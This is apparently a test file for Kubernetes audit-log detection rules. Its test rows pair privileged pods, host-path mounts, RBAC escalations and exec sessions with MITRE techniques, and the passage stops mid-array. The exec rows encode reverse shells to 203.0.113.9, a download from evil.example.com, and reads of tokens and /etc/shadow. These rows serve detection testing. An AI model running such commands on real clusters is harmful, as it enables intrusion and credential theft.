/**
 * Kubernetes detections by behaviour, whatever rule tells it: one request in each of the forms that a server may audit it in, and beside it the
 * ordinary requests that must stay at information level. A row's last column is a technique that the alert must name, or null for quiet.
 */
import { describe, expect, test } from 'vitest'
import { namesTechnique } from './detections.ts'
import { eventTexts } from './k8s-golden.ts'
import { Bench, compiled, type Judged, productSources } from './k8s-ruleset.ts'

const ruleset = compiled(productSources())
const firstMs = Date.UTC(2026, 0, 5, 10)

/** What differs from a request that jane makes with kubectl inside the network, recorded whole. */
interface Told {
  readonly user?: string
  readonly groups?: readonly string[]
  readonly as?: { readonly username: string; readonly groups?: readonly string[] }
  /** User agent; null leaves the member out. */
  readonly agent?: string | null
  readonly namespace?: string | null
  readonly name?: string | null
  readonly body?: unknown
  readonly response?: unknown
  readonly code?: number
  readonly uri?: string
  readonly address?: string
  readonly marks?: Readonly<Record<string, string>>
  readonly level?: string
  readonly stage?: string
  readonly message?: string
}

const clusterWide =
  /^(?:namespaces|nodes|persistentvolumes|cluster|mutating|validating|certificatesigning|selfsubject|tokenreviews)/

/** An audit event: `verb`, then `resource` or `resource/subresource`, with its group before a colon (`apps:deployments`). */
function ask(verb: string, what: string, told: Told = {}): object {
  const [group = '', kind = ''] = what.includes(':') ? what.split(':') : ['', what]
  const [resource = '', subresource] = kind.split('/')
  const namespace = told.namespace === undefined ? (clusterWide.test(resource) ? null : 'shop') : told.namespace
  const isMany = verb === 'list' || verb === 'watch' || verb === 'deletecollection'
  const name = told.name === undefined ? (isMany ? null : 'thing') : told.name
  const steps = [
    group === '' ? '/api/v1' : `/apis/${group}/v1`,
    namespace === null ? '' : `/namespaces/${namespace}`,
    `/${resource}`,
    name === null || (verb === 'create' && subresource === undefined) ? '' : `/${name}`,
    subresource === undefined ? '' : `/${subresource}`,
  ]
  const code = told.code ?? (verb === 'create' ? 201 : 200)
  const user = told.user ?? 'jane@example.com'
  const isAccount = user.startsWith('system:serviceaccount:')
  return {
    kind: 'Event',
    apiVersion: 'audit.k8s.io/v1',
    level:
      told.level ??
      (told.response !== undefined ? 'RequestResponse' : told.body !== undefined ? 'Request' : 'Metadata'),
    auditID: '5f0c1d2e-0000-4000-8000-000000000001',
    stage: told.stage ?? 'ResponseComplete',
    requestURI: told.uri ?? steps.join(''),
    verb,
    user: {
      username: user,
      groups:
        told.groups ?? (isAccount ? ['system:serviceaccounts', 'system:authenticated'] : ['system:authenticated']),
    },
    ...(told.as === undefined ? {} : { impersonatedUser: told.as }),
    sourceIPs: [told.address ?? '10.1.2.3'],
    ...(told.agent === null ? {} : { userAgent: told.agent ?? 'kubectl/v1.31.0 (linux/amd64) kubernetes/9edcffc' }),
    objectRef: {
      resource,
      ...(namespace === null ? {} : { namespace }),
      ...(name === null ? {} : { name }),
      ...(group === '' ? {} : { apiGroup: group }),
      apiVersion: 'v1',
      ...(subresource === undefined ? {} : { subresource }),
    },
    responseStatus: { metadata: {}, code, ...(told.message === undefined ? {} : { message: told.message }) },
    ...(told.body === undefined ? {} : { requestObject: told.body }),
    ...(told.response === undefined ? {} : { responseObject: told.response }),
    requestReceivedTimestamp: '2026-01-05T10:00:00.000001Z',
    stageTimestamp: '2026-01-05T10:00:00.000002Z',
    annotations: { 'authorization.k8s.io/decision': code === 401 || code === 403 ? 'forbid' : 'allow', ...told.marks },
  }
}

function worst(events: readonly object[]): Judged | null {
  const bench = new Bench(ruleset)
  let found: Judged | null = null
  for (const [n, text] of events.flatMap((event) => eventTexts('k8s', event)).entries()) {
    const judged = bench.judge(text, firstMs + n * 1000)
    if (judged !== null && judged.level >= (found?.level ?? 0)) found = judged
  }
  return found
}

type Row = readonly [says: string, event: object | readonly object[], technique: string | null]

function check(rows: readonly Row[]): void {
  test.each(
    rows.map(
      ([says, event, technique]) => [`${says}${technique === null ? ' is quiet' : ''}`, event, technique] as const,
    ),
  )('%s', (_, event, technique) => {
    const judged = worst(Array.isArray(event) ? event : [event as object])
    const told =
      judged === null
        ? 'silent'
        : `${judged.rule} (level ${judged.level}, ${judged.techniques.join(' ')}): ${judged.description}`
    if (technique === null) expect(judged?.level ?? 0, told).toBeLessThanOrEqual(3)
    else {
      expect(judged?.level ?? 0, told).toBeGreaterThanOrEqual(5)
      expect(namesTechnique(judged?.techniques ?? [], [technique]), told).toBe(true)
    }
  })
}

const stolen = 'system:serviceaccount:shop:web'
const program = 'manager/v0.0.0 (linux/amd64) kubernetes/$Format'
const helm = 'Helm/3.15.2'

const plainSpec = { containers: [{ name: 'a', image: 'nginx:1.27' }] }
const pod = (spec: object) => ({ kind: 'Pod', spec: { ...plainSpec, ...spec } })
const workload = (spec: object) => ({ spec: { template: { spec: { ...plainSpec, ...spec } } } })
const cron = (spec: object) => ({ spec: { jobTemplate: workload(spec) } })
const privileged = { containers: [{ name: 'a', image: 'nginx:1.27', securityContext: { privileged: true } }] }

describe('what a pod may do on its node', () => {
  const dangers: readonly (readonly [says: string, spec: object])[] = [
    ['privileged', privileged],
    ['a privileged init container', { initContainers: [{ image: 'a', securityContext: { privileged: true } }] }],
    ['host processes of Windows', { securityContext: { windowsOptions: { hostProcess: true } } }],
    ['hostPID', { hostPID: true }],
    ['hostIPC', { hostIPC: true }],
    ['hostNetwork', { hostNetwork: true }],
    ['CAP_SYS_ADMIN', { containers: [{ image: 'a', securityContext: { capabilities: { add: ['cap_sys_admin'] } } }] }],
    ['all capabilities', { initContainers: [{ image: 'a', securityContext: { capabilities: { add: ['ALL'] } } }] }],
    ['the root of the node', { volumes: [{ name: 'r', hostPath: { path: '/' } }] }],
    ['the socket of containerd', { volumes: [{ hostPath: { path: '/run/containerd/containerd.sock' } }] }],
    ['the manifests of the kubelet', { volumes: [{ hostPath: { path: '/etc//kubernetes/./manifests/' } }] }],
  ]
  const paths = [
    ...[
      '/',
      '/etc',
      '/root',
      '/root/.ssh',
      '/proc',
      '/var',
      '/var/run',
      '/run',
      '/var/lib',
      '/var/lib/kubelet',
      '/var/lib/kubelet/pki',
    ],
    ...[
      '/etc/kubernetes',
      '/etc/kubernetes/manifests',
      '/etc/kubernetes/pki',
      '/home/admin',
      '/var/lib/docker',
      '/var/lib/docker/overlay2',
    ],
    ...[
      '/var/run/docker.sock',
      '/run/docker.sock',
      '/run/containerd/containerd.sock',
      '/var/run/containerd',
      '/run/crio/crio.sock',
    ],
    ...[
      '/var/run/cri-dockerd.sock',
      '/var/run/dockershim.sock',
      '/run/k3s/containerd/containerd.sock',
      '/var/lib/etcd',
      '/dev',
      '/dev/sda1',
    ],
    ...[
      '/sys/fs/cgroup',
      '/boot',
      '/usr/bin',
      '/opt/cni/bin',
      '/etc/cron.d',
      '/etc/shadow',
      '/var/lib/rancher/k3s',
      '/../etc/',
      '//proc//1/root',
    ],
  ]
  check(
    paths.map(
      (path): Row => [
        `the path ${path}`,
        ask('create', ':pods', { body: pod({ volumes: [{ hostPath: { path } }] }) }),
        'T1611',
      ],
    ),
  )
  const nodeAgent = { user: 'system:serviceaccount:shop:agent', agent: program }
  check(
    [
      '/var/log',
      '/etc/localtime',
      '/etc/ssl/certs',
      '/etc/os-release',
      '/lib/modules',
      '/dev/shm',
      '/mnt/data',
      '/tmp',
    ].map(
      (path): Row => [
        `the path ${path} of an agent`,
        ask('create', ':pods', { ...nodeAgent, body: pod({ volumes: [{ hostPath: { path } }] }) }),
        null,
      ],
    ),
  )
  const forms: readonly (readonly [what: string, wrap: (spec: object) => unknown])[] = [
    [':pods', pod],
    ['apps:deployments', workload],
    ['apps:daemonsets', workload],
    ['apps:statefulsets', workload],
    ['apps:replicasets', workload],
    [':replicationcontrollers', workload],
    ['batch:jobs', workload],
    ['batch:cronjobs', cron],
    [':podtemplates', (spec) => ({ template: { spec: { ...plainSpec, ...spec } } })],
    ['apps.openshift.io:deploymentconfigs', workload],
  ]
  check(
    dangers.flatMap(([says, spec]): Row[] =>
      forms.flatMap(([what, wrap]): Row[] =>
        ['create', 'update', 'patch'].map(
          (verb): Row => [`${says}, ${verb} ${what}`, ask(verb, what, { body: wrap(spec) }), 'T1611'],
        ),
      ),
    ),
  )
  const inTemplate = '/spec/template/spec'
  check([
    [
      'a JSON patch of a flag',
      ask('patch', 'apps:deployments', { body: [{ op: 'add', path: `${inTemplate}/hostPID`, value: true }] }),
      'T1611',
    ],
    [
      'a JSON patch of a container',
      ask('patch', 'apps:deployments', {
        body: [{ op: 'add', path: `${inTemplate}/containers/-`, value: privileged.containers[0] }],
      }),
      'T1611',
    ],
    [
      'a JSON patch of a security context',
      ask('patch', 'apps:daemonsets', {
        body: [{ op: 'replace', path: `${inTemplate}/containers/0/securityContext/privileged`, value: true }],
      }),
      'T1611',
    ],
    [
      'a JSON patch of a capability',
      ask('patch', 'apps:deployments', {
        body: [
          { op: 'add', path: `${inTemplate}/containers/0/securityContext/capabilities/add/-`, value: 'SYS_ADMIN' },
        ],
      }),
      'T1611',
    ],
    [
      'a JSON patch of a path',
      ask('patch', 'apps:deployments', {
        body: [{ op: 'replace', path: `${inTemplate}/volumes/0/hostPath/path`, value: '/etc' }],
      }),
      'T1611',
    ],
    [
      'a JSON patch of an init container',
      ask('patch', 'batch:jobs', {
        body: [
          {
            op: 'add',
            path: `${inTemplate}/initContainers`,
            value: [{ image: 'a', securityContext: { privileged: true } }],
          },
        ],
      }),
      'T1611',
    ],
    [
      'a strategic merge of a container',
      ask('patch', 'apps:deployments', {
        body: {
          spec: {
            template: {
              spec: { $setElementOrder: [], containers: [{ name: 'a', securityContext: { privileged: true } }] },
            },
          },
        },
      }),
      'T1611',
    ],
    [
      'a JSON patch of a volume',
      ask('patch', 'apps:deployments', {
        body: [{ op: 'add', path: `${inTemplate}/volumes/-`, value: { hostPath: { path: '/var/lib/kubelet' } } }],
      }),
      'T1611',
    ],
    [
      'a JSON patch of the template',
      ask('patch', 'batch:cronjobs', {
        body: [{ op: 'replace', path: '/spec/jobTemplate/spec/template/spec', value: { hostPID: true } }],
      }),
      'T1611',
    ],
    [
      'a JSON patch that tests first',
      ask('patch', 'apps:deployments', {
        body: [
          { op: 'test', path: '/metadata/name', value: 'x' },
          { op: 'replace', path: `${inTemplate}/hostNetwork`, value: true },
        ],
      }),
      'T1611',
    ],
    [
      'a copy inside the object, seen in the answer',
      ask('patch', 'apps:deployments', {
        body: [
          {
            op: 'copy',
            from: `${inTemplate}/containers/1/securityContext`,
            path: `${inTemplate}/containers/0/securityContext`,
          },
        ],
        response: workload(privileged),
      }),
      'T1611',
    ],
    [
      'a server-side apply without a body, seen in the answer',
      ask('patch', 'apps:deployments', { level: 'RequestResponse', response: workload(privileged) }),
      'T1611',
    ],
    [
      'an ephemeral container',
      ask('patch', ':pods/ephemeralcontainers', { body: { spec: { ephemeralContainers: [{ image: 'a' }] } } }),
      'T1609',
    ],
    [
      'a privileged ephemeral container',
      ask('update', ':pods/ephemeralcontainers', {
        body: pod({ ephemeralContainers: [{ image: 'a', securityContext: { privileged: true } }] }),
      }),
      'T1611',
    ],
    [
      'a persistent volume on the node',
      ask('create', ':persistentvolumes', { body: { spec: { hostPath: { path: '/' } } } }),
      'T1611',
    ],
    [
      'a local persistent volume on the node',
      ask('create', ':persistentvolumes', { body: { spec: { local: { path: '/etc' } } } }),
      'T1611',
    ],
    ['by a stolen token with kubectl', ask('create', ':pods', { user: stolen, body: pod(privileged) }), 'T1611'],
    [
      'by a program of an application',
      ask('create', ':pods', { user: stolen, agent: program, body: pod(privileged) }),
      'T1611',
    ],
    [
      'by an account of kube-system in a hand',
      ask('create', ':pods', {
        user: 'system:serviceaccount:kube-system:metrics-server',
        agent: 'curl/8',
        body: pod(privileged),
      }),
      'T1611',
    ],
    [
      'by the default account of kube-system',
      ask('create', ':pods', {
        user: 'system:serviceaccount:kube-system:default',
        agent: program,
        body: pod(privileged),
      }),
      'T1611',
    ],
    [
      'by somebody who calls himself a component',
      ask('create', ':pods', { user: 'system:helper', body: pod(privileged) }),
      'T1611',
    ],
    ['under the name of Helm', ask('create', 'apps:daemonsets', { agent: helm, body: workload(privileged) }), 'T1611'],
    ['as another user', ask('create', ':pods', { as: { username: 'bob' }, body: pod({ hostPID: true }) }), 'T1611'],
    ['without a user agent', ask('create', ':pods', { agent: null, body: pod({ hostPID: true }) }), 'T1611'],
    [
      'with a name that the server makes',
      ask('create', ':pods', {
        name: null,
        body: pod({ hostPID: true }),
        response: { metadata: { name: 'x-abc' }, spec: { hostPID: true } },
      }),
      'T1611',
    ],
    [
      'a mark of pod security, without a body',
      ask('create', ':pods', {
        marks: {
          'pod-security.kubernetes.io/audit-violations':
            'would violate PodSecurity "baseline:latest": host namespaces (hostPID=true)',
        },
      }),
      'T1611',
    ],
    [
      'a debug pod on a node',
      ask('create', ':pods', {
        namespace: 'default',
        body: pod({
          nodeName: 'n1',
          hostPID: true,
          hostNetwork: true,
          hostIPC: true,
          volumes: [{ hostPath: { path: '/' } }],
        }),
      }),
      'T1611',
    ],
    [
      'a miner',
      ask('create', 'batch:jobs', { body: workload({ containers: [{ image: 'docker.io/x/xmrig:6' }] }) }),
      'T1496',
    ],
    ['a pod in kube-system', ask('create', ':pods', { namespace: 'kube-system', body: pod({}) }), 'T1036.005'],
    [
      'a deployment in kube-system',
      ask('create', 'apps:deployments', { namespace: 'kube-system', body: workload({}) }),
      'T1036.005',
    ],
    ['a pod in kube-system, without a body', ask('create', ':pods', { namespace: 'kube-system' }), 'T1036.005'],
    ['a daemon set', ask('create', 'apps:daemonsets', { body: workload({}) }), 'T1610'],
    ['a daemon set, without a body', ask('create', 'apps:daemonsets'), 'T1610'],
    ['a cron job', ask('create', 'batch:cronjobs', { body: cron({}) }), 'T1053.007'],
    [
      'a changed cron job, by a stolen token',
      ask('patch', 'batch:cronjobs', { user: stolen, body: { spec: { schedule: '* * * * *' } } }),
      'T1053.007',
    ],
    ['a job', ask('create', 'batch:jobs', { body: workload({}) }), 'T1053.007'],
  ])
  check([
    [
      'what is only tried out',
      [
        ask('create', ':pods', { uri: '/api/v1/namespaces/shop/pods?dryRun=All', body: pod(privileged) }),
        ask('delete', 'networking.k8s.io:networkpolicies', {
          uri: '/apis/networking.k8s.io/v1/namespaces/shop/networkpolicies/x?dryRun=All',
        }),
      ],
      null,
    ],
    ['an ordinary pod', ask('create', ':pods', { body: pod({}) }), null],
    ['an ordinary deployment', ask('create', 'apps:deployments', { body: workload({}) }), null],
    [
      'an ordinary deployment, changed',
      ask('patch', 'apps:deployments', { body: workload({}), response: workload({}) }),
      null,
    ],
    [
      'a stateful set with volumes',
      ask('create', 'apps:statefulsets', {
        body: workload({
          volumes: [{ emptyDir: {} }, { configMap: { name: 'a' } }, { persistentVolumeClaim: { claimName: 'a' } }],
        }),
      }),
      null,
    ],
    [
      'harmless capabilities',
      ask('create', ':pods', {
        body: pod({
          containers: [
            {
              image: 'a',
              securityContext: { privileged: false, capabilities: { drop: ['ALL'], add: ['NET_BIND_SERVICE'] } },
            },
          ],
        }),
      }),
      null,
    ],
    ['a refused pod, which an admission stopped', ask('create', ':pods', { code: 422, body: pod(privileged) }), null],
    [
      'the scaling of what is privileged',
      ask('patch', 'apps:deployments', { body: { spec: { replicas: 3 } }, response: workload(privileged) }),
      null,
    ],
    [
      'the scaling by its own subresource',
      ask('patch', 'apps:deployments/scale', { body: { spec: { replicas: 3 } }, response: { spec: { replicas: 3 } } }),
      null,
    ],
    [
      'a restart of what is privileged',
      ask('patch', 'apps:daemonsets', {
        body: { spec: { template: { metadata: { annotations: { 'kubectl.kubernetes.io/restartedAt': 'x' } } } } },
        response: workload(privileged),
      }),
      null,
    ],
    [
      'a label of what is privileged',
      ask('patch', ':pods', { body: { metadata: { labels: { a: 'b' } } }, response: pod(privileged) }),
      null,
    ],
    [
      'a pod of the replica set controller',
      ask('create', ':pods', {
        user: 'system:serviceaccount:kube-system:replicaset-controller',
        agent: 'kube-controller-manager/v1.31 kubernetes/x/system:serviceaccount:kube-system:replicaset-controller',
        body: pod(privileged),
      }),
      null,
    ],
    [
      'a mirror pod of a kubelet',
      ask('create', ':pods', {
        user: 'system:node:n1',
        groups: ['system:nodes'],
        agent: 'kubelet/v1.31 (linux/amd64) kubernetes/x',
        namespace: 'kube-system',
        body: pod({ hostNetwork: true }),
      }),
      null,
    ],
    [
      'the proxy of kubeadm',
      ask('create', 'apps:daemonsets', {
        user: 'kubernetes-admin',
        groups: ['kubeadm:cluster-admins'],
        agent: 'kubeadm/v1.31 (linux/amd64) kubernetes/x',
        namespace: 'kube-system',
        name: 'kube-proxy',
        body: workload({
          hostNetwork: true,
          containers: [{ image: 'registry.k8s.io/kube-proxy:v1.31.0', securityContext: { privileged: true } }],
        }),
      }),
      null,
    ],
    [
      'metrics-server by kubectl',
      ask('create', 'apps:deployments', {
        namespace: 'kube-system',
        name: 'metrics-server',
        body: workload({ containers: [{ image: 'registry.k8s.io/metrics-server/metrics-server:v0.7.1' }] }),
      }),
      null,
    ],
    [
      'an add-on in kube-system by Helm',
      ask('create', 'apps:deployments', { namespace: 'kube-system', agent: helm, body: workload({}) }),
      null,
    ],
    [
      'a volume of a provisioner',
      ask('create', ':persistentvolumes', {
        user: 'system:serviceaccount:local-path-storage:local-path-provisioner-service-account',
        agent: 'local-path-provisioner/v0',
        body: { spec: { hostPath: { path: '/var/local-path-provisioner/pvc-1' } } },
      }),
      null,
    ],
    [
      'a volume of a cloud',
      ask('create', ':persistentvolumes', {
        body: { spec: { csi: { driver: 'ebs.csi.aws.com', volumeHandle: 'vol-1' } } },
      }),
      null,
    ],
    ['an eviction when a node is drained', ask('create', ':pods/eviction', { body: {} }), null],
    ['logs of a pod', ask('get', ':pods/log'), null],
    [
      'a status that is written',
      ask('patch', ':pods/status', { body: { status: {} }, response: pod(privileged) }),
      null,
    ],
    [
      'a cron job made by Argo CD',
      ask('create', 'batch:cronjobs', {
        user: 'system:serviceaccount:argocd:argocd-application-controller',
        agent: 'argocd-application-controller/v2',
        body: cron({}),
      }),
      null,
    ],
    [
      'a pod of a build server',
      ask('create', ':pods', { user: 'system:serviceaccount:ci:jenkins', agent: 'okhttp/4', body: pod({}) }),
      null,
    ],
  ])
})

describe('sessions', () => {
  const exec = (query: string, told: Told = {}, verb = 'create') =>
    ask(verb, ':pods/exec', { code: 101, name: 'web', uri: `/api/v1/namespaces/shop/pods/web/exec?${query}`, ...told })
  check([
    ['exec', exec('command=ls'), 'T1609'],
    ['exec by a web socket', exec('command=sh&stdin=true&tty=true', {}, 'get'), 'T1609'],
    ['exec when it starts', exec('command=sh', { stage: 'ResponseStarted' }), 'T1609'],
    ['exec by a stolen token', exec('command=id', { user: stolen }), 'T1609'],
    ['exec by a program', exec('command=id', { user: stolen, agent: program }), 'T1609'],
    ['exec that was refused', exec('command=id', { code: 403 }), 'T1609'],
    ['exec by a web socket that was refused', exec('command=id', { code: 403 }, 'get'), 'T1613'],
    [
      'a reverse shell',
      exec('command=bash&command=-c&command=bash+-i+%3E%26+%2Fdev%2Ftcp%2F203.0.113.9%2F4444+0%3E%261'),
      'T1059',
    ],
    [
      'a reverse shell of Python',
      exec('command=python3&command=-c&command=import+socket%2Cpty%3Bs%3Dsocket.socket()'),
      'T1059',
    ],
    [
      'a reverse shell of netcat',
      exec('command=nc&command=203.0.113.9&command=4444&command=-e&command=%2Fbin%2Fsh'),
      'T1059',
    ],
    ['metadata of a cloud', exec('command=curl&command=http%3A%2F%2F169.254.169.254%2Flatest'), 'T1552.005'],
    ['metadata as a number', exec('command=wget&command=-qO-&command=http%3A%2F%2F2852039166%2F'), 'T1552.005'],
    [
      'a token',
      exec('command=cat&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken'),
      'T1552.001',
    ],
    ['a shadow file', exec('command=cat&command=%2Fetc%2Fshadow'), 'T1552.001'],
    ['a download', exec('command=curl&command=-sSL&command=https%3A%2F%2Fevil.example.com%2Fx.sh'), 'T1105'],
    ['a copy out', exec('command=tar&command=cf&command=-&command=%2Fdata'), 'T1005'],
    ['attach', ask('create', ':pods/attach', { code: 101 }), 'T1609'],
    ['attach by a web socket', ask('get', ':pods/attach', { code: 101, stage: 'ResponseStarted' }), 'T1609'],
    ['port forward', ask('create', ':pods/portforward', { code: 101 }), 'T1572'],
    ['port forward by a web socket', ask('get', ':pods/portforward', { code: 101 }), 'T1572'],
    [
      'a kubelet that runs a command',
      ask('create', ':nodes/proxy', { name: 'n1', uri: '/api/v1/nodes/n1/proxy/run/shop/web/a?cmd=id' }),
      'T1609',
    ],
    [
      'the pods of a kubelet',
      ask('get', ':nodes/proxy', { name: 'n1', uri: '/api/v1/nodes/https:n1:10250/proxy/pods' }),
      'T1613',
    ],
    ['the logs of a kubelet', ask('get', ':nodes/proxy', { name: 'n1', uri: '/api/v1/nodes/n1/proxy/logs/' }), 'T1613'],
    [
      'a kubelet by a stolen token',
      ask('get', ':nodes/proxy', { user: stolen, agent: 'curl/8', uri: '/api/v1/nodes/n1/proxy/runningpods/' }),
      'T1613',
    ],
  ])
  check([
    [
      'metrics of a kubelet',
      ask('get', ':nodes/proxy', {
        user: 'system:serviceaccount:monitoring:prometheus',
        agent: 'Prometheus/2',
        uri: '/api/v1/nodes/n1/proxy/metrics/cadvisor',
      }),
      null,
    ],
    ['a summary of a kubelet', ask('get', ':nodes/proxy', { uri: '/api/v1/nodes/n1/proxy/stats/summary' }), null],
    [
      'a service behind a proxy',
      ask('get', ':services/proxy', { uri: '/api/v1/namespaces/shop/services/web/proxy/' }),
      null,
    ],
  ])
})

const rbac = (kind: string) => `rbac.authorization.k8s.io:${kind}`
const role = (...rules: object[]) => ({ rules })
const rule = (resources: readonly string[], verbs: readonly string[], apiGroups: readonly string[] = ['']) => ({
  apiGroups,
  resources,
  verbs,
})
const binding = (name: string, ...subjects: object[]) => ({ roleRef: { kind: 'ClusterRole', name }, subjects })
const account = { kind: 'ServiceAccount', name: 'web', namespace: 'shop' }

describe('rights', () => {
  const strong: readonly (readonly [says: string, body: object])[] = [
    ['all verbs', role(rule(['pods'], ['*']))],
    ['all resources', role(rule(['*'], ['get']))],
    ['everything', role(rule(['*'], ['*'], ['*']))],
    ['exec', role(rule(['pods/exec'], ['create']))],
    ['every subresource of pods', role(rule(['pods/*'], ['create']))],
    ['proxies of nodes', role(rule(['nodes/proxy'], ['get']))],
    ['secrets', role(rule(['secrets'], ['get', 'list']))],
    ['impersonation', role(rule(['users', 'groups'], ['impersonate']))],
    ['bind', role(rule(['clusterroles'], ['bind'], ['rbac.authorization.k8s.io']))],
    ['escalate', role(rule(['clusterroles'], ['escalate'], ['rbac.authorization.k8s.io']))],
    ['tokens of accounts', role(rule(['serviceaccounts/token'], ['create']))],
    ['writing of bindings', role(rule(['rolebindings'], ['create'], ['rbac.authorization.k8s.io']))],
    ['writing of webhooks', role(rule(['mutatingwebhookconfigurations'], ['patch'], ['admissionregistration.k8s.io']))],
    ['the second of two rules', role(rule(['pods'], ['get']), rule(['secrets'], ['list']))],
    [
      'rules that are part of the standard roles',
      {
        metadata: { labels: { 'rbac.authorization.k8s.io/aggregate-to-edit': 'true' } },
        ...role(rule(['secrets'], ['get'])),
      },
    ],
    ['the rules of all roles', { aggregationRule: { clusterRoleSelectors: [{}] }, rules: null }],
  ]
  check(
    strong.flatMap(([says, body]): Row[] =>
      ['roles', 'clusterroles'].flatMap((kind): Row[] =>
        ['create', 'update', 'patch'].map(
          (verb): Row => [`${says}, ${verb} ${kind}`, ask(verb, rbac(kind), { body }), 'T1098.006'],
        ),
      ),
    ),
  )
  check([
    [
      'a resource in a JSON patch',
      ask('patch', rbac('clusterroles'), { body: [{ op: 'add', path: '/rules/0/resources/-', value: 'pods/exec' }] }),
      'T1098.006',
    ],
    [
      'a verb in a JSON patch',
      ask('patch', rbac('clusterroles'), { body: [{ op: 'add', path: '/rules/0/verbs/-', value: '*' }] }),
      'T1098.006',
    ],
    [
      'a rule in a JSON patch',
      ask('patch', rbac('roles'), { body: [{ op: 'add', path: '/rules/-', value: rule(['*'], ['*']) }] }),
      'T1098.006',
    ],
    [
      'a resource whose verbs stand in the answer',
      ask('patch', rbac('roles'), {
        body: [{ op: 'add', path: '/rules/0/resources/-', value: 'secrets' }],
        response: role(rule(['pods', 'secrets'], ['get'])),
      }),
      'T1098.006',
    ],
    ['writing', ask('create', rbac('roles'), { body: role(rule(['deployments'], ['create'], ['apps'])) }), 'T1098.006'],
    [
      'an add-on as a whole',
      ask('create', rbac('clusterroles'), { body: role(rule(['*'], ['*'], ['example.com'])) }),
      'T1098.006',
    ],
    [
      'cluster-admin',
      ask('create', rbac('clusterrolebindings'), { body: binding('cluster-admin', account) }),
      'T1098.006',
    ],
    [
      'cluster-admin in a namespace',
      ask('create', rbac('rolebindings'), { body: binding('cluster-admin', account) }),
      'T1098.006',
    ],
    [
      'cluster-admin by Helm',
      ask('create', rbac('clusterrolebindings'), { agent: helm, body: binding('cluster-admin', account) }),
      'T1098.006',
    ],
    [
      'cluster-admin by an operator',
      ask('create', rbac('clusterrolebindings'), {
        user: stolen,
        agent: program,
        body: binding('cluster-admin', account),
      }),
      'T1098.006',
    ],
    [
      'cluster-admin with a name that the server makes',
      ask('create', rbac('clusterrolebindings'), { name: null, body: binding('cluster-admin', account) }),
      'T1098.006',
    ],
    [
      'one more administrator of kubeadm',
      ask('patch', rbac('clusterrolebindings'), {
        name: 'kubeadm:cluster-admins',
        body: binding('cluster-admin', { kind: 'User', name: 'eve' }),
      }),
      'T1098.006',
    ],
    [
      'everybody',
      ask('create', rbac('clusterrolebindings'), {
        body: binding('view', { kind: 'Group', name: 'system:unauthenticated' }),
      }),
      'T1098.006',
    ],
    [
      'everybody, in a patch',
      ask('patch', rbac('clusterrolebindings'), {
        body: { subjects: [{ kind: 'Group', name: 'system:authenticated' }] },
      }),
      'T1098.006',
    ],
    [
      'everybody, as anonymous',
      ask('patch', rbac('rolebindings'), {
        body: [{ op: 'add', path: '/subjects/0', value: { kind: 'User', name: 'system:anonymous' } }],
      }),
      'T1098.006',
    ],
    ['an account', ask('create', rbac('rolebindings'), { body: binding('view', account) }), 'T1098.006'],
    [
      'the default account',
      ask('update', rbac('rolebindings'), { body: binding('edit', { ...account, name: 'default' }) }),
      'T1098.006',
    ],
    ['a binding, without a body', ask('create', rbac('rolebindings')), 'T1098.006'],
    ['a binding that is deleted', ask('delete', rbac('clusterrolebindings')), 'T1098.006'],
    ['a binding by a stolen token', ask('create', rbac('rolebindings'), { user: stolen }), 'T1098.006'],
    [
      'a built-in role that is changed',
      ask('patch', rbac('clusterroles'), { name: 'system:node', body: {} }),
      'T1098.006',
    ],
    ['a built-in role that is deleted', ask('delete', rbac('clusterroles'), { name: 'system:discovery' }), 'T1098.006'],
    [
      'a built-in role of a namespace',
      ask('update', rbac('roles'), { namespace: 'kube-system', name: 'system:controller:token-cleaner' }),
      'T1098.006',
    ],
    [
      'an account among those of the platform',
      ask('create', ':serviceaccounts', { namespace: 'kube-system' }),
      'T1136',
    ],
  ])
  check([
    [
      'a role that reads',
      ask('create', rbac('roles'), { body: role(rule(['pods', 'pods/log'], ['get', 'list', 'watch'])) }),
      null,
    ],
    [
      'a role that reads, by a controller',
      ask('update', rbac('clusterroles'), {
        user: 'system:serviceaccount:kube-system:clusterrole-aggregation-controller',
        agent: 'kube-controller-manager/v1',
        name: 'admin',
        body: role(rule(['*'], ['*'])),
      }),
      null,
    ],
    [
      'roles of the API server',
      ask('create', rbac('clusterroles'), {
        user: 'system:apiserver',
        agent: 'kube-apiserver/v1',
        address: '::1',
        name: 'cluster-admin',
        body: role(rule(['*'], ['*'])),
      }),
      null,
    ],
    ['an account of an application', ask('create', ':serviceaccounts'), null],
    [
      'a chart with its roles',
      [
        ask('create', ':serviceaccounts', { agent: helm }),
        ask('create', rbac('clusterroles'), {
          agent: helm,
          body: role(rule(['*'], ['*'], ['cert-manager.io']), rule(['events', 'pods'], ['create', 'patch'])),
        }),
        ask('create', rbac('clusterrolebindings'), { agent: helm, body: binding('cert-manager', account) }),
        ask('create', rbac('rolebindings'), { agent: helm, body: binding('cert-manager', account) }),
        ask('create', 'apps:deployments', { agent: helm, body: workload({ serviceAccountName: 'web' }) }),
        ask('create', 'admissionregistration.k8s.io:validatingwebhookconfigurations', {
          agent: helm,
          body: { webhooks: [{ failurePolicy: 'Fail' }] },
        }),
        ask('patch', 'admissionregistration.k8s.io:validatingwebhookconfigurations', {
          user: 'system:serviceaccount:cert-manager:cainjector',
          agent: 'cainjector/v1',
          body: { webhooks: [{ clientConfig: { caBundle: 'x' } }] },
        }),
      ],
      null,
    ],
    [
      'a chart that goes',
      [
        ask('delete', 'apps:deployments', { agent: helm }),
        ask('delete', ':services', { agent: helm }),
        ask('delete', ':configmaps', { agent: helm }),
        ask('delete', ':serviceaccounts', { agent: helm }),
        ask('delete', rbac('rolebindings'), { agent: helm }),
        ask('delete', rbac('roles'), { agent: helm }),
        ask('delete', ':secrets', { agent: helm, name: 'sh.helm.release.v1.web.v1' }),
      ],
      null,
    ],
  ])
})

describe('secrets and tokens', () => {
  const all = (verb: string, query: string, told: Told = {}) =>
    ask(verb, ':secrets', { namespace: null, name: null, uri: `/api/v1/secrets${query}`, ...told })
  check([
    ['all secrets', all('list', ''), 'T1552.007'],
    ['all secrets, as if it were tried out', all('list', '?dryRun=All'), 'T1552.007'],
    [
      'a token, as if it were tried out',
      ask('create', ':serviceaccounts/token', { uri: '/api/v1/namespaces/shop/serviceaccounts/web/token?dryRun=All' }),
      'T1550.001',
    ],
    ['all secrets, in parts', all('list', '?limit=500'), 'T1552.007'],
    ['all secrets, by a watch', all('watch', '?watch=true'), 'T1552.007'],
    ['all secrets, by a stolen token', all('list', '?limit=500', { user: stolen }), 'T1552.007'],
    [
      'all secrets, by a program with a stolen token',
